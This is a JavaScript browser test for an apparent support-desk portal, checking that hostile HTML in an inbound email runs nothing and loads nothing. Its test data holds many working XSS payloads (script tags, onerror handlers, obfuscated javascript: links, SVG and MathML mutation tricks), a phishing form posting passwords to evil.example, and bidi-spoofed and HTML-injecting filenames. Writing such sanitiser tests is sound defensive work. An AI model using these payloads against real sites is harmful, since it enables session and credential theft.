// S14: what a stranger mails in is text. Nothing of it runs, loads or leaves its place in the page.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { launch, Visitor } from "./support/browser.js";
import { DESK, startStack } from "./support/stack.js";

let stack;
let browser;
before(async () => { [stack, browser] = await Promise.all([startStack(), launch()]); });
after(async () => {
  await browser?.close();
  await stack?.stop();
});

const BIDI_NAME = "invoice\u202Efdp.exe";
const HTML_NAME = "<img src=x onerror=window.pwned=9>.txt";

const HOSTILE = `<html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/">
<base href="http://evil.example/">
<style>body { display: none } .bar { background: url(http://evil.example/s.png) }</style>
<link rel="stylesheet" href="http://evil.example/s.css">
</head><body onload="window.pwned=1">
<p>Dear support,</p>
<script>window.pwned = 2</script>
<img src="x" onerror="window.pwned=3">
<img src="http://evil.example/pixel.png" width="1" height="1">
<a href="javascript:window.pwned=4">a link that runs</a>
<a href=" java&#10;script:window.pwned=5">another one</a>
<a href="data:text/html,<script>window.pwned=6</script>">a third</a>
<p>See https://example.org/help</p>
<svg onload="window.pwned=7"><script>window.pwned=7</script><a xlink:href="javascript:window.pwned=7"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=8></style></mglyph></table></mtext></math>
<iframe src="http://evil.example/"></iframe><object data="http://evil.example/"></object><embed src="http://evil.example/">
<form action="http://evil.example/steal" method="post"><input name="password" autofocus><button>Sign in again</button></form>
<input form="reply" name="message" value="stolen"><textarea name="x"></textarea>
<video src="http://evil.example/v.mp4" autoplay poster="http://evil.example/p.png"></video>
<div style="position: fixed; inset: 0; background: url(http://evil.example/b.png)">covers the page</div>
<p id="main" class="bar" data-live="/evil">an id of the page's own</p>
</div></article></li></ol></main><p>The end is well</p>
</body></html>`;

/** A message with HTML and files, as mail programs build it. */
function message() {
  const encoded = (text) => Buffer.from(text).toString("base64").replace(/.{76}/g, "$&\n");
  const file = (name, type, content) => [`--outer`, `Content-Type: ${type}`, `Content-Transfer-Encoding: base64`, `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(name)}`, "", encoded(content)];
  return [
    "--outer", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "", encoded(HOSTILE),
    ...file(BIDI_NAME, "application/octet-stream", "MZ"),
    ...file(HTML_NAME, "text/html", "<script>window.pwned = 10</script>"),
    ...file("drawing.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=11'/>"),
    "--outer--",
  ].join("\n");
}

test("s14 s18 hostile HTML in a mail runs nothing, loads nothing and stays in its place", async (t) => {
  const visitor = await Visitor.arrive(browser, stack);
  t.after(() => visitor.leave());
  const { page } = visitor;
  const headers = { "Content-Type": 'multipart/mixed; boundary="outer"' };
  const subject = "<script>window.pwned=12</script> \u202Ereversed";
  await stack.mail.write({ from: "Anna Roux <anna@acme.example>", to: DESK, subject: `=?UTF-8?B?${Buffer.from(subject).toString("base64")}?=`, headers, body: message() });
  await stack.mail.next("anna@acme.example");
  await visitor.signIn("anna@acme.example");
  await page.locator("table.tickets .subject a").first().click();
  const article = page.getByRole("article");
  await article.getByText("Dear support,").waitFor();
  await page.waitForLoadState("networkidle");

  await t.test("the words are there, and so are honest links", async () => {
    assert.equal(await article.count(), 1);
    await article.getByText("covers the page").waitFor();
    await article.getByText("The end is well").waitFor();
    const honest = article.getByRole("link", { name: "https://example.org/help" });
    assert.equal(await honest.getAttribute("href"), "https://example.org/help");
    assert.match(await honest.getAttribute("rel"), /noopener/);
  });

  await t.test("nothing of it acts, or looks like a part of the portal", async () => {
    const left = await page.locator("ol.conversation").evaluate((list) => {
      const forbidden = "script, style, link, meta, base, svg:not(.icon), math, iframe, object, embed, form, input, button, textarea, video, img[src^='http'], [style], [id]:not([data-entry]), [onload], [onerror], [data-live]";
      return [...list.querySelectorAll(forbidden)].map((element) => element.outerHTML);
    });
    assert.deepEqual(left, []);
    for (const link of await article.getByRole("link").all()) {
      assert.match(await link.getAttribute("href"), /^(https?:|mailto:|tel:|\/tickets\/)/);
    }
    assert.equal(await page.locator("header.bar").isVisible(), true, "its style does not reach the page");
    assert.equal(await page.locator("main").count(), 1, "its end tags do not close the page's elements");
    assert.equal(await page.locator("main #reply, main .facts").count(), 2);
  });

  await t.test("a click on what is left of its links runs nothing", async () => {
    for (const name of ["a link that runs", "another one", "a third"]) await article.getByText(name).click();
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    assert.equal(new URL(page.url()).origin, stack.base);
  });

  await t.test("file names are text that cannot turn around what stands beside them", async () => {
    const names = await article.locator(".file-name").evaluateAll((all) => all.map((name) => ({ text: name.textContent, isolated: ["isolate", "plaintext"].includes(getComputedStyle(name).unicodeBidi) })));
    assert.equal(names.length, 3);
    for (const { text, isolated } of names) {
      assert.ok(isolated, text);
      assert.doesNotMatch(text, /[\u202A-\u202E\u2066-\u2069]/, "no control that turns the text around");
    }
    assert.ok(names.some(({ text }) => text.includes("onerror")), "it is shown as it is, as text");
  });

  await t.test("s15 a file never opens as a page, whatever it says that it is", async () => {
    for (const link of await article.locator(".attachments a").all()) {
      const file = page.waitForResponse((response) => response.url().includes("X-Amz-Signature"));
      const [answer] = await Promise.all([file, page.waitForEvent("download"), link.click()]);
      assert.match(answer.headers()["content-disposition"], /^attachment/);
      assert.doesNotMatch(answer.headers()["content-type"], /html|svg/);
    }
  });

  await t.test("s14 the list and the stack's own pages are just as safe", async () => {
    for (const path of ["/tickets", "/_local/", "/_local/outbox", "/_local/inbound"]) {
      await page.goto(path, { waitUntil: "networkidle" });
      assert.equal(await page.evaluate(() => window.pwned), undefined, path);
    }
  });

  assert.equal(await page.evaluate(() => window.pwned), undefined);
  visitor.assertNoFaults();
});
